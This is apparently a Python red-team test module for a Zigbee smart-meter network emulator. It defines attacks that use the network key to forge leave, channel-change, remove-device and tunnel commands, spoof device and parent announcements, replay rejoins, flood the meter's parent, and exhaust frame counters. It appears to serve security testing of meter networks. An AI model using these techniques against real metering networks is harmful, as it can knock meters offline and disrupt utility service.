"""Attacks with the network key on the gas meter's parent, and in its name."""

from __future__ import annotations

from hanbench.emulator.zigbee.aps import commands as aps_commands
from hanbench.emulator.zigbee.nwk import commands
from hanbench.emulator.zigbee.zdo import messages as zdp
from tests.redteam.attacker import BROADCAST, OWN_SHORT, Attacker, Place
from tests.redteam.attacks import FLOOD, attack
from tests.redteam.with_the_network_key import (
    BASIC,
    UPDATE_STATUS,
    again,
    annce,
    aps_command,
    at_wakes,
    nwk_command,
    request,
)
from tests.redteam.without_keys import RX_ON_ROUTER, SLEEPY, association

# --- leaving and moving -----------------------------------------------------------------------------------------------


@attack
async def leave_in_the_routers_name(a: Attacker) -> None:
    """The repeater's own farewell, with and without its children, to the hub and to all (R22, 3.6.1.10.2)."""
    leaves = [commands.Leave(rejoin=rejoin, remove_children=gone) for rejoin in (False, True) for gone in (False, True)]
    await again(
        a,
        lambda: [
            nwk_command(a, each, src=a.router, dst=dst, over=over)
            for each in leaves
            for dst, over in ((0, 0), (0xFFFD, BROADCAST))
        ],
    )


@attack
async def leave_to_the_router(a: Attacker) -> None:
    """The hub's request that the repeater leaves, children and all (R22, 3.6.1.10.3)."""
    leave = commands.Leave(request=True, remove_children=True)
    await again(a, lambda: [nwk_command(a, leave, src=a.hub, dst=a.router.short, sender=a.hub.ieee)])


@attack
async def mgmt_leave_to_the_parent(a: Attacker) -> None:
    """The meter's parent is asked to have the meter leave (R22, 2.4.3.3.5)."""
    await again(a, lambda: [request(a, zdp.MgmtLeaveReq(a.gsme.ieee, 0), a.parent.short)])


@attack
async def mgmt_leave_to_the_router(a: Attacker) -> None:
    await again(a, lambda: [request(a, zdp.MgmtLeaveReq(a.router.ieee, 0), a.router.short)])


@attack
async def mgmt_channel_change_to_the_router(a: Attacker) -> None:
    """The repeater alone is told to change to another channel (R22, 2.4.3.3.9)."""
    lie = zdp.MgmtNwkUpdateReq(1 << 26, zdp.CHANGE_CHANNEL, update_id=9)
    await again(a, lambda: [request(a, lie, a.router.short)])


@attack
async def remove_device_to_the_router(a: Attacker) -> None:
    """Remove-Device of the meter in the Trust Centre's name, under the network key alone (R22, 4.4.5)."""
    await again(a, lambda: [aps_command(a, aps_commands.RemoveDevice(a.gsme.ieee), src=0, dst=a.router.short)], 60)


@attack
async def tunnel_to_the_meter(a: Attacker) -> None:
    """Tunnel with a frame for the meter, which its parent sends on without NWK security (R22, 4.4.4)."""

    def lies() -> list[bytes]:
        inner = b"\x21" + bytes((a.next(),)) + b"\x30" + bytes(4) + a.hub.ieee.to_bytes(8, "little")
        return [
            aps_command(a, aps_commands.Tunnel(a.gsme.ieee, each), src=0, dst=a.router.short)
            for each in (inner + a.random.randbytes(40), b"\x01\x01\x00\x00", b"")
        ]

    await again(a, lies, 5)


# --- addresses --------------------------------------------------------------------------------------------------------


@attack
async def device_annce_about_the_router(a: Attacker) -> None:
    """The repeater's EUI-64 with the hub's, the meter's, a free and a broadcast address (R22, 2.4.3.1.11)."""
    shorts = (0x0000, a.gsme.short, 0x4242, 0xFFFC)
    await again(
        a,
        lambda: [annce(a, a.router.ieee, short, src=src) for short in shorts for src in (short, OWN_SHORT)],
    )


@attack
async def device_annce_of_the_routers_address(a: Attacker) -> None:
    """An invented device and the meters claim the repeater's address (R22, 3.6.1.9)."""
    await again(
        a,
        lambda: [annce(a, each, a.router.short) for each in (a.foreign_ieee(), a.gsme.ieee, a.esme.ieee)],
    )


@attack
async def update_device_in_the_routers_name(a: Attacker) -> None:
    """The repeater's word about both meters, under the network key alone: each status, true and false addresses."""

    def lies() -> list[bytes]:
        return [
            aps_command(a, aps_commands.UpdateDevice(each.ieee, short, status), src=a.router.short, dst=0)
            for each in (a.gsme, a.esme)
            for short in (each.short, 0x4242, a.router.short)
            for status in UPDATE_STATUS
        ]

    await again(a, lies, 20)


@attack
async def parent_annce(a: Attacker) -> None:
    """A router that does not exist says that both meters are its children (R22, 2.4.3.1.12)."""

    def lies() -> list[bytes]:
        lie = zdp.encode(a.next(), zdp.ParentAnnce((a.gsme.ieee, a.esme.ieee)))
        apdu = a.apdu(lie, zdp.ParentAnnce.CLUSTER, profile=0, endpoint=0, delivery=2)
        return [a.data(a.npdu(apdu, src=OWN_SHORT, dst=0xFFFC), dst=BROADCAST)]

    await again(a, lies, 20)


# --- children ---------------------------------------------------------------------------------------------------------


@attack
async def secured_rejoin_at_another_parent(a: Attacker) -> None:
    """The meter's at the hub, and the electricity meter's at the repeater, with its EUI-64 in the auxiliary header.

    The frame counter is the next one, so that the meter's own next frame is a replay where this one was heard.
    """

    def lies() -> list[bytes]:
        return [
            nwk_command(a, commands.RejoinRequest(capability=capability), src=each, dst=at, sender=each.ieee)
            for each, at, capability in ((a.gsme, 0, SLEEPY), (a.esme, a.router.short, RX_ON_ROUTER))
        ]

    await again(a, lies, 60)


@attack
async def secured_rejoin_flood(a: Attacker) -> None:
    """Invented devices rejoin at the meter's parent (R22, 3.6.1.4.2.2)."""

    def lie() -> bytes:
        place = Place(a.foreign_short(), a.foreign_ieee())
        rejoin = commands.RejoinRequest(capability=SLEEPY)
        return nwk_command(a, rejoin, src=place, dst=a.parent.short, sender=place.ieee)

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def association_flood_at_the_opened_parent(a: Attacker) -> None:
    """Mgmt_Permit_Joining opens the parent, then invented devices associate with it (R22, 2.4.3.3.7)."""
    for at in range(FLOOD):
        if at % 100 == 0:
            await a.flood([request(a, zdp.MgmtPermitJoiningReq(254), a.parent.short)])
        await a.flood([association(a, a.foreign_ieee())])


@attack
async def mailbox_flood(a: Attacker) -> None:
    """Frames for the meter through its parent as soon as it wakes: they fill its mailbox (802.15.4, 5.1.5)."""

    def lie() -> bytes:
        apdu = a.apdu(b"\x18\x01\x0b\x00\x00", BASIC)
        return a.data(a.npdu(apdu, src=a.foreign_short(), dst=a.gsme.short), dst=a.parent.short)

    await at_wakes(a, lambda: [lie() for _ in range(40)])


@attack
async def routers_counter_pushed_to_the_end(a: Attacker) -> None:
    """One frame with the repeater's EUI-64 and the highest frame counter (R22, 4.3.1.2)."""
    npdu = a.npdu(a.apdu(b"\x18\x01\x0b\x00\x00", BASIC), src=a.router.short, sender=a.router.ieee, counter=0xFFFF_FFFE)
    await a.send(a.data(npdu, src=a.router.short), retries=3)
